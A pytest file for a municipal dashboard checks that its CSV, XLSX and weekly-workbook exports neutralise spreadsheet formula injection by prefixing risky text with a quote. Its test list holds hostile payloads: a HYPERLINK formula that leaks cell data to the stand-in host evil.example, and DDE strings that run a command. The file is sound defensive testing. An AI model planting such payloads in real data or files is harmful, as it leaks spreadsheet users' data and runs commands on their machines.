"""Spreadsheet formula injection: text from a city's data that a spreadsheet would take for
a formula (=, +, -, @, a tab or carriage return first) comes out of every browsing export
guarded by a quote, the XLSX holds no formula cell, and numbers stay numbers."""
import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from dashboard import browse as B
from dashboard import create_app
from dashboard.export import to_csv, to_xlsx
from datasource.engine import make_engine
from tests.conftest import BACKLOG, FIXED_NOW, seeded_store_url

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width equals sign
]


def guarded(s: str) -> str:
    return "'" + s


def in_xml(s: str) -> str:
    """What an XLSX reader gets back: XML reads a carriage return as a line feed."""
    return s.replace("\r", "\n")


def test_safe_text_guards_text_and_leaves_numbers():
    from dashboard.export import safe_text

    for s in HOSTILE:
        assert safe_text(s) == guarded(s)
    for s in ("金水区", "1-2号楼", "a=b", "", "'=already quoted"):
        assert safe_text(s) == s
    for n in (-5, -0.5, 0, 3, None, True):
        assert safe_text(n) is n


def test_xlsx_never_holds_a_formula_and_numbers_stay_numbers():
    raw = to_xlsx(["=head", "n"], [[s, -5] for s in HOSTILE] + [["bell\x07", -1.5]])
    ws = load_workbook(io.BytesIO(raw)).active
    rows = list(ws.iter_rows())
    assert all(c.data_type != "f" for r in rows for c in r)
    assert rows[0][0].value == "'=head"
    assert [r[0].value for r in rows[1:-1]] == [in_xml(guarded(s)) for s in HOSTILE]
    assert rows[-1][0].value == "bell\ufffd"  # a control character XML cannot hold does not break the file
    assert [(r[1].data_type, r[1].value) for r in rows[1:]] == [("n", -5)] * len(HOSTILE) + [("n", -1.5)]


def test_csv_is_guarded_and_numbers_stay_numbers():
    raw = to_csv(["h"], [[s, -5, -0.25, None] for s in HOSTILE]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw)))
    assert rows[1:] == [[guarded(s), "-5", "-0.25", ""] for s in HOSTILE]


@pytest.fixture(scope="module")
def store(request, tmp_path_factory):
    url = seeded_store_url("sqlite", request, tmp_path_factory.mktemp("inject"),
                           profile=BACKLOG, seed=5, total_cases=600, now=FIXED_NOW, occupancy_days=1)
    engine = make_engine(url)
    with engine.begin() as conn:
        cases = [r[0] for r in conn.execute(text(
            "SELECT id FROM cases ORDER BY reported_at DESC LIMIT :n"), {"n": len(HOSTILE)})]
        problems = [r[0] for r in conn.execute(text(
            "SELECT id FROM enterprise_problems ORDER BY raised_at DESC LIMIT :n"), {"n": len(HOSTILE)})]
        facilities = [r[0] for r in conn.execute(text(
            "SELECT id FROM parking_facilities ORDER BY id LIMIT :n"), {"n": len(HOSTILE)})]
        assert len(cases) == len(problems) == len(facilities) == len(HOSTILE)
        for i, s in enumerate(HOSTILE):
            conn.execute(text("UPDATE cases SET address = :s WHERE id = :id"), {"s": s, "id": cases[i]})
            conn.execute(text("UPDATE enterprise_problems SET summary = :s, department = :s, status = 'open', "
                              "resolved_at = NULL WHERE id = :id"),
                         {"s": s, "id": problems[i]})
            conn.execute(text("UPDATE parking_facilities SET name = :s WHERE id = :id"),
                         {"s": s, "id": facilities[i]})
    yield url
    engine.dispose()


@pytest.fixture(scope="module")
def client(store):
    app = create_app({"DATABASE_URL": store, "POLLER_ENABLED": False})
    B.browse(app.server).clock = lambda: FIXED_NOW.timestamp()
    yield app.server.test_client()
    B.browse(app.server).engine.dispose()


# (what, the columns that hold the hostile text, a column that holds numbers)
EXPORTS = [("cases", ["地址"], "返工次数"), ("problems", ["问题描述", "承办部门"], None),
           ("facilities", ["设施"], "泊位")]


@pytest.mark.parametrize("what,columns,number", EXPORTS)
def test_browsing_exports_are_guarded(client, what, columns, number):
    resp = client.get(f"/browse/export.csv?what={what}&period=year")
    assert resp.status_code == 200
    rows = list(csv.reader(io.StringIO(resp.data.decode("utf-8-sig"))))
    for col in columns:
        i = rows[0].index(col)
        values = [r[i] for r in rows[1:]]
        assert sorted(v for v in values if v.startswith("'")) == sorted(guarded(s) for s in HOSTILE), col
        assert not [v for v in values if v.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d"))], col

    resp = client.get(f"/browse/export.xlsx?what={what}&period=year")
    assert resp.status_code == 200
    ws = load_workbook(io.BytesIO(resp.data)).active
    cells = list(ws.iter_rows())
    assert [c.coordinate for r in cells for c in r if c.data_type == "f"] == []
    head = [c.value for c in cells[0]]
    for col in columns:
        i = head.index(col)
        values = [r[i].value for r in cells[1:]]
        assert sorted(v for v in values if isinstance(v, str) and v.startswith("'")) == \
            sorted(in_xml(guarded(s)) for s in HOSTILE), col
    if number:
        i = head.index(number)
        assert {r[i].data_type for r in cells[1:]} == {"n"}
        assert all(isinstance(r[i].value, int) for r in cells[1:])


def test_kpi_export_keeps_negative_changes_as_numbers(client):
    ws = load_workbook(io.BytesIO(client.get("/browse/export.xlsx?what=kpis&period=week").data)).active
    numbers = [c.value for r in ws.iter_rows(min_row=2) for c in r if c.data_type == "n" and c.value is not None]
    assert any(v < 0 for v in numbers)  # a change down is a negative number, not guarded text
    assert not [c.value for r in ws.iter_rows(min_row=2) for c in r
                if isinstance(c.value, str) and c.value.startswith("'-")]


def test_weekly_workbook_guards_text():
    from layouts.weekly.workbook import build_workbook

    cols = [{"key": "code", "kind": "text"}, {"key": "name", "kind": "text"}, {"key": "closed", "kind": "count"},
            {"key": "closed_delta", "kind": "count"}]
    rows = [{"code": s, "name": s, "closed": 3, "closed_delta": -5} for s in HOSTILE]
    table = {"columns": cols, "rows": rows}
    wb = load_workbook(io.BytesIO(build_workbook({"cases": table, "enterprise": table, "parking": table},
                                                 title="t")))
    for ws in wb.worksheets:
        cells = list(ws.iter_rows(min_row=2))
        assert [c.coordinate for r in cells for c in r if c.data_type == "f"] == []
        assert [(r[0].value, r[1].value) for r in cells] == [(in_xml(guarded(s)),) * 2 for s in HOSTILE]
        assert [(r[3].data_type, r[3].value) for r in cells] == [("n", -5)] * len(HOSTILE)
